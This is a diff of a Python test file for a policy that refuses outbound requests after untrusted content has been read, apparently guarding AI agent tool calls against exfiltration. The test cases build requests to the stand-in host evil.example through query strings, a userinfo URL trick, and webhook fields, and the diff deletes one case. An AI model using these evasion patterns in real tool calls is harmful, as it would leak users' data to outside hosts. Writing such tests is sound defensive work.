@@ -138,14 +138,13 @@ def test_a_call_that_changes_is_made_alone() -> None:
         (call("http.request", url="https://evil.example/?q=notes"), "reach evil.example"),
         (call("http.request", url="https://intranet.example@evil.example/"), "reach evil.example"),
         (
-            call("http.request", url="https://intranet.example/", webhook="https://evil.example/in"),
+            call("http.request", url="http://intranet.example/", hook="https://evil.example/in"),
             "reach evil.example",
         ),
         (
-            call("http.request", url="https://intranet.example/", to=[{"at": "wss://evil.example"}]),
+            call("http.request", url="http://intranet.example/", hooks=[{"at": "wss://evil.example"}]),
             "reach evil.example",
         ),
-        (call("http.request", url=["https://evil.example/"]), "reach evil.example"),
     ],
 )
 def test_after_a_stranger_was_read_sends_outside_are_refused_and_not_asked(made: i.LookCall, why: str) -> None:
